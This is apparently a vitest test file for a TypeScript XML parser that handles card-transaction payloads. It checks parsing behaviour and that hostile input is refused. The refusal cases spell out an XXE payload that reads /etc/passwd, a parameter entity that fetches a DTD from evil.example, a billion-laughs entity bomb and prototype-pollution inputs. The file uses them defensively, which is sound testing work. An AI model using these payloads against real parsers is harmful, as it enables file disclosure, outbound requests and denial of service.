import { describe, expect, it } from 'vitest';
import { fromXml, MAX_DEPTH, MAX_ELEMENTS, XmlInputError, type XmlShape } from './index.ts';

const transaction: XmlShape = { root: 'card-transaction' };
const DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>';

function inputError(run: () => unknown): XmlInputError {
  try {
    run();
  } catch (error) {
    expect(error).toBeInstanceOf(XmlInputError);
    const inputError = error as XmlInputError;
    // Safe to show a client: short, and never the document's content.
    expect(inputError.message.length).toBeLessThan(120);
    expect(inputError.message).not.toMatch(/4263982640269299|secret|lol/);
    return inputError;
  }
  throw new Error('expected an XmlInputError');
}

describe('fromXml namespaces', () => {
  const expected = { amount: '10.50', cardHolderInfo: { zip: '00123' } };
  it('accepts the default namespace', () => {
    const xml = `${DECLARATION}<card-transaction xmlns="http://ws.plimus.com"><amount>10.50</amount><card-holder-info><zip>00123</zip></card-holder-info></card-transaction>`;
    expect(fromXml(xml, transaction)).toEqual(expected);
  });
  it('accepts no namespace and no declaration', () => {
    const xml =
      '<card-transaction><amount>10.50</amount><card-holder-info><zip>00123</zip></card-holder-info></card-transaction>';
    expect(fromXml(xml, transaction)).toEqual(expected);
  });
  it('strips prefixes', () => {
    const xml = `${DECLARATION}<bs:card-transaction xmlns:bs="http://ws.plimus.com"><bs:amount>10.50</bs:amount><bs:card-holder-info><bs:zip>00123</bs:zip></bs:card-holder-info></bs:card-transaction>`;
    expect(fromXml(xml, transaction)).toEqual(expected);
  });
});

describe('fromXml values', () => {
  const read = (body: string, shape: XmlShape = transaction) =>
    fromXml(`<card-transaction>${body}</card-transaction>`, shape);

  it('keeps leaf values as written, trimmed, without number parsing', () => {
    expect(
      read(
        '<amount>\n  10.50 \n</amount><vaulted-shopper-id>00123</vaulted-shopper-id><x>1e5</x><y>true</y>',
      ),
    ).toEqual({ amount: '10.50', vaultedShopperId: '00123', x: '1e5', y: 'true' });
  });

  it('reads empty elements as empty strings and an empty root as {}', () => {
    expect(read('<zip/><city></city><state>   </state>')).toEqual({ zip: '', city: '', state: '' });
    expect(fromXml('<card-transaction/>', transaction)).toEqual({});
    expect(fromXml('<card-transaction>\n</card-transaction>', transaction)).toEqual({});
  });

  it('ignores attributes, comments, a BOM and leading whitespace', () => {
    expect(
      fromXml(
        '\uFEFF\n<?xml version="1.0"?><!-- hi --><card-transaction a="1"><amount currency="EUR">1<!-- c -->0</amount></card-transaction><!-- bye -->',
        transaction,
      ),
    ).toEqual({ amount: '10' });
  });

  it('decodes predefined entities and character references, and keeps CDATA verbatim', () => {
    expect(
      read(
        '<a>&lt;b&gt; &amp; &quot;q&quot; &apos;s&apos;</a><b>&#233;&#xE9;&#x6F22;&#23383;&#x1F600;</b><c><![CDATA[<x>&amp;</x>]]></c><d>a<![CDATA[ & ]]>b</d>',
      ),
    ).toEqual({ a: `<b> & "q" 's'`, b: 'éé漢字😀', c: '<x>&amp;</x>', d: 'a & b' });
  });

  it('makes repeated elements arrays, and listed keys always arrays', () => {
    const shape = { root: 'card-transaction', repeated: ['item'] };
    expect(read('<item>a</item>', shape)).toEqual({ item: ['a'] });
    expect(read('<other>a</other><other>b</other>', shape)).toEqual({ other: ['a', 'b'] });
    expect(read('<item><n>1</n></item><x/><item><n>2</n></item>', shape)).toEqual({
      item: [{ n: '1' }, { n: '2' }],
      x: '',
    });
  });

  it('unwraps wrapped lists, an empty wrapper being []', () => {
    const shape = { root: 'card-transaction', wrapped: { ipnDestinations: 'ipn-destination' } };
    expect(read('<ipn-destinations/>', shape)).toEqual({ ipnDestinations: [] });
    expect(read('<ipn-destinations>\n</ipn-destinations>', shape)).toEqual({ ipnDestinations: [] });
    expect(
      read(
        '<ipn-destinations><ipn-destination><ipn-url>u</ipn-url></ipn-destination></ipn-destinations>',
        shape,
      ),
    ).toEqual({
      ipnDestinations: [{ ipnUrl: 'u' }],
    });
    const error = inputError(() => read('<ipn-destinations><ipn-url>u</ipn-url></ipn-destinations>', shape));
    expect(error.property).toBe('ipnDestinations');
    inputError(() => read('<ipn-destinations>text</ipn-destinations>', shape));
  });

  it('maps names that are not kebab-case deterministically, without touching prototypes', () => {
    expect(read('<card_number>1</card_number><Card-Type>v</Card-Type><address-1>x</address-1>')).toEqual({
      card_number: '1',
      'Card-Type': 'v',
      'address-1': 'x',
    });
    inputError(() => read('<__proto__><polluted>yes</polluted></__proto__>'));
    inputError(() => read('<constructor><prototype><polluted>yes</polluted></prototype></constructor>'));
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    const inherited = read(
      '<to-string>1</to-string><value-of>2</value-of><has-own-property>3</has-own-property>',
    );
    expect(inherited).toEqual({ toString: '1', valueOf: '2', hasOwnProperty: '3' });
  });
});

describe('fromXml refuses hostile or broken input', () => {
  const cases: Record<string, string> = {
    'empty body': '',
    'blank body': ' \n\t ',
    'plain text': 'hello world',
    JSON: '{"amount":"10.00"}',
    HTML: '<html><body>hi</body></html>',
    'unclosed element': '<card-transaction><amount>1</card-transaction>',
    'unterminated document': '<card-transaction><amount>1</amount>',
    'two roots': '<card-transaction/><card-transaction/>',
    'two roots, not self-closing': '<card-transaction></card-transaction><card-transaction/>',
    'text after the root': '<card-transaction/>trailing',
    'text after a closed root': '<card-transaction></card-transaction> trailing',
    'entity after the root': '<card-transaction/>&amp;',
    'bare ampersand': '<card-transaction><a>1 & 2</a></card-transaction>',
    'undefined entity': '<card-transaction><a>&nbsp;</a></card-transaction>',
    'NUL reference': '<card-transaction><a>&#0;</a></card-transaction>',
    'surrogate reference': '<card-transaction><a>&#xD800;</a></card-transaction>',
    'out-of-range reference': '<card-transaction><a>&#x110000;</a></card-transaction>',
    'literal control character': '<card-transaction><a>\u0001</a></card-transaction>',
    'lone surrogate': '<card-transaction><a>\uD800</a></card-transaction>',
    DOCTYPE: '<!DOCTYPE card-transaction><card-transaction/>',
    'internal entity':
      '<!DOCTYPE r [<!ENTITY secret "s3cr3t">]><card-transaction><a>&secret;</a></card-transaction>',
    XXE: '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><card-transaction><a>&xxe;</a></card-transaction>',
    'parameter entity':
      '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]><card-transaction/>',
    'billion laughs': `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from(
      { length: 9 },
      (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`,
    ).join('')}]><card-transaction><a>&lol9;</a></card-transaction>`,
    'processing instruction': '<card-transaction><?php echo 1; ?><a>1</a></card-transaction>',
    'stylesheet instruction': '<?xml-stylesheet href="x.xsl"?><card-transaction/>',
    'late declaration': '<card-transaction/><?xml version="1.0"?>',
    'mixed content':
      '<card-transaction><credit-card>4263982640269299<card-number>x</card-number></credit-card></card-transaction>',
  };

  for (const [name, xml] of Object.entries(cases)) {
    it(name, () => {
      inputError(() => fromXml(xml, transaction));
    });
  }

  it('names the property holding mixed content', () => {
    const error = inputError(() =>
      fromXml(
        '<card-transaction><credit-card><card-number>4263982640269299<x/></card-number></credit-card></card-transaction>',
        transaction,
      ),
    );
    expect(error.property).toBe('creditCard.cardNumber');
  });

  it('refuses the wrong root, without echoing it', () => {
    const error = inputError(() => fromXml(`<${'x'.repeat(5000)}/>`, transaction));
    expect(error.message).toBe('The root element must be <card-transaction>');
    inputError(() => fromXml('<messages><message/></messages>', transaction));
  });

  it(`allows ${MAX_DEPTH} levels and refuses ${MAX_DEPTH + 1}`, () => {
    const nest = (levels: number) =>
      `<card-transaction>${'<a>'.repeat(levels - 1)}x${'</a>'.repeat(levels - 1)}</card-transaction>`;
    expect(() => fromXml(nest(MAX_DEPTH), transaction)).not.toThrow();
    inputError(() => fromXml(nest(MAX_DEPTH + 1), transaction));
    inputError(() => fromXml(nest(100_000), transaction));
  });

  it(`allows ${MAX_ELEMENTS} elements and refuses more`, () => {
    const many = (count: number) => `<card-transaction>${'<a>1</a>'.repeat(count - 1)}</card-transaction>`;
    expect((fromXml(many(MAX_ELEMENTS), transaction).a as unknown[]).length).toBe(MAX_ELEMENTS - 1);
    inputError(() => fromXml(many(MAX_ELEMENTS + 1), transaction));
    inputError(() =>
      fromXml(`<card-transaction>${'<a/>'.repeat(1_000_000)}</card-transaction>`, transaction),
    );
  });

  it('does not mistake markup inside CDATA, comments or attributes for declarations', () => {
    expect(
      fromXml(
        '<card-transaction note="<!DOCTYPE>"><!-- <!DOCTYPE x> <?pi?> --><a><![CDATA[<!DOCTYPE x><?pi?><b>]]></a></card-transaction>',
        transaction,
      ),
    ).toEqual({ a: '<!DOCTYPE x><?pi?><b>' });
  });
});
